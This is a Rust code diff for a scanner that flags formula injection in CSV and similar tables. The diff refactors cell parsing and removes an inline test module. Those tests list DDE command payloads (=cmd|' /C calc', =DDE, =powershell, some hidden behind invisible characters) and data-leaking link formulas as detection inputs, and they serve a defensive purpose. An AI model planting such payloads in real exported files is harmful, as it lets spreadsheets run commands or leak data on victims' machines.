@@ -4,8 +4,11 @@
 //! number, a handle or a dash start like that too, so a cell counts only where the rest of it is
 //! a formula: a call, a reference or a command.
 
+mod cells;
+
 use super::decode;
 use crate::{Budget, Notes, Severity, Unscannable};
+use cells::Cell;
 
 /// More of a cell is not looked at.
 const CELL_BYTES_MAX: usize = 2000;
@@ -13,53 +16,36 @@ const LEAD_BYTES_MAX: usize = 200;
 
 /// Looks at the cells of a table (comma, semicolon, tab or pipe).
 pub fn check(text: &str, notes: &mut Notes, budget: &mut Budget) -> Result<(), Unscannable> {
-    let mut quoted = false;
-    for (number, line) in text.split(['\n', '\r']).enumerate() {
-        budget.charge(line.len() as u64 + 1)?;
-        let bytes = line.as_bytes();
-        // A quoted cell goes on from the line before: what stands here is text, unless it commands.
-        budget.charge(look(line, 0, quoted, number, notes))?;
-        let mut at = 0;
-        if !quoted && bytes.first() == Some(&b'"') {
-            quoted = true;
-            at = 1;
-        }
-        while let Some(found) = memchr_mark(&bytes[at..]) {
-            let mark = at + found;
-            at = mark + 1;
-            if bytes[mark] == b'"' {
-                // A doubled quote closes and opens again.
-                quoted = false_if_open(quoted, bytes, mark);
-                continue;
-            }
-            budget.charge(look(line, at, quoted, number, notes))?;
-            if !quoted && bytes.get(at) == Some(&b'"') {
-                quoted = true;
-                at += 1;
-            }
-        }
+    let mut lines = Lines::default();
+    cells::walk(text.as_bytes(), budget, |cell| {
+        look(text, cell, &mut lines, notes)
+    })
+}
+
+/// Counts lines as far as they are asked for.
+#[derive(Default)]
+struct Lines {
+    at: usize,
+    ends: usize,
+}
+
+impl Lines {
+    fn number(&mut self, text: &str, at: usize) -> usize {
+        let ends = memchr::memchr2_iter(b'\n', b'\r', &text.as_bytes()[self.at..at]);
+        self.ends += ends.count();
+        self.at = at;
+        self.ends + 1
     }
-    Ok(())
 }
 
-fn memchr_mark(bytes: &[u8]) -> Option<usize> {
-    bytes
-        .iter()
-        .position(|b| matches!(b, b',' | b';' | b'\t' | b'|' | b'"'))
-}
-
-/// The state behind a quote within a cell: only an open cell can be closed, and one that was
-/// closed by the quote before is opened again.
-fn false_if_open(quoted: bool, bytes: &[u8], mark: usize) -> bool {
-    let reopened = !quoted && mark > 0 && bytes[mark - 1] == b'"';
-    !quoted && reopened
-}
-
-/// Looks at the cell that begins at `at`. Within quotes only a command counts. Says for how many
-/// bytes that is to be paid: a cell without an end is looked at far past the next mark.
-fn look(line: &str, at: usize, quoted: bool, number: usize, notes: &mut Notes) -> u64 {
-    let Some(rest) = line.get(at..) else { return 1 };
+/// Looks at a cell that may begin with a formula. Within quotes only a command counts. Says for
+/// how many bytes that is to be paid: a cell without an end is looked at far past the next mark.
+fn look(text: &str, cell: Cell, lines: &mut Lines, notes: &mut Notes) -> u64 {
+    let Cell { at, quoted } = cell;
+    let Some(rest) = text.get(at..) else { return 1 };
     let rest = decode::head(rest, 2 * CELL_BYTES_MAX);
+    let end = memchr::memchr2(b'\n', b'\r', rest.as_bytes()).unwrap_or(rest.len());
+    let rest = &rest[..end];
     let hidden = |c: char| {
         c.is_whitespace()
             || c.is_control()
@@ -91,7 +77,8 @@ fn look(line: &str, at: usize, quoted: bool, number: usize, notes: &mut Notes) -
         return paid;
     };
     if !quoted || severity == Severity::Malicious {
-        notes.find(rule, severity, format!("line {}", number + 1), message);
+        let place = format!("line {}", lines.number(text, at));
+        notes.find(rule, severity, place, message);
     }
     paid
 }
@@ -255,136 +242,4 @@ fn formula(first: char, wide: bool, body: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::Limits;
-
-    #[test]
-    fn a_row_of_endless_formulas_is_paid_for() {
-        let mut budget = Budget::new(crate::Limits {
-            wall: std::time::Duration::from_millis(50),
-            ..crate::Limits::default()
-        });
-        let end = check(&",=".repeat(100_000), &mut Notes::default(), &mut budget);
-        assert_eq!(end, Err(Unscannable::Timeout));
-    }
-
-    fn worst(text: &str) -> Option<Severity> {
-        let mut notes = Notes::default();
-        check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
-        notes.worst()
-    }
-
-    #[test]
-    fn plain_cells_are_left_alone() {
-        for cell in [
-            "-",
-            "--",
-            "-1",
-            "-1.5e-3",
-            "+49 170 1234567",
-            "+1 (555) 123-4567",
-            "@ana",
-            "@bo_b",
-            "-inf",
-            "+inf",
-            "-nan",
-            "=",
-            "==",
-            "=> next",
-            "-12 %",
-            "- item",
-            "-foo",
-            "+ added (see below)",
-            "@home (work)",
-            "=)",
-            "x = y + 1",
-            "-A",
-            "+B",
-            "--- a/x.txt",
-            "-$5.00",
-            "\"-1,5\"",
-            "'=SUM(A1)",
-            "−5",
-            "－",
-            "-(n)",
-            "+C/-",
-            "@override",
-            "a|b",
-            "\"text, -x\"",
-            "+0.5|-0.5",
-            "-3-4",
-            "+/-5",
-            "=-=",
-        ] {
-            assert_eq!(worst(&format!("a,b\n1,{cell}\n")), None, "{cell}");
-        }
-    }
-
-    #[test]
-    fn commands_are_malicious_however_they_are_quoted() {
-        for cell in [
-            "=cmd|' /C calc'!A0",
-            "\"=cmd|' /C calc'!A0\"",
-            "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0",
-            "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
-            "\t=cmd|' /C calc'!A0",
-            "\"\t=cmd|' /C calc'!A0\"",
-            "\"\r=cmd|' /C calc'!A0\"",
-            "\"\n=cmd|' /C calc'!A0\"",
-            " =cmd|' /C calc'!A0",
-            "\u{feff}=cmd|' /C calc'!A0",
-            "\"\"=cmd|' /C calc'!A0",
-            "=CMD|'/c calc'!A0",
-            "=MSEXCEL|'\\..\\..\\calc.exe'!x",
-            "=DDE(\"cmd\";\"/C calc\";\"x\")",
-            "=powershell|'-c x'!A1",
-            "=foo|'bar'!baz",
-            "\"x\",=cmd|'/C x'!A0",
-            "\u{200b}=cmd|' /C calc'!A0",
-            "=1+EXEC(\"calc\")",
-            "=+-+cmd|'/C x'!A0",
-        ] {
-            for delimiter in [",", ";", "\t", "|"] {
-                assert_eq!(
-                    worst(&format!("a{delimiter}b\n1{delimiter}{cell}\n")),
-                    Some(Severity::Malicious),
-                    "{cell}"
-                );
-            }
-        }
-    }
-
-    #[test]
-    fn reaching_out_is_suspicious_and_arithmetic_is_active() {
-        for cell in [
-            "=HYPERLINK(\"http://x\",\"y\")",
-            "\"=WEBSERVICE(\"\"http://x\"\"&A1)\"",
-            "=IMPORTXML(\"http://x\",\"//a\")",
-            "+IMAGE(\"http://x\")",
-            "＝cmd|'/C x'!A0",
-            "='\\\\host\\share\\[a.xls]S'!A1",
-        ] {
-            assert_eq!(
-                worst(&format!("1,{cell}\n")),
-                Some(Severity::Suspicious),
-                "{cell}"
-            );
-        }
-        for cell in [
-            "=SUM(A1:A3)",
-            "=A1+B2",
-            "=1+1",
-            "@SUM(1)",
-            "+A1+B1",
-            "=-A1+2",
-        ] {
-            assert_eq!(
-                worst(&format!("1,{cell}\n")),
-                Some(Severity::Active),
-                "{cell}"
-            );
-        }
-    }
-}
+mod tests;
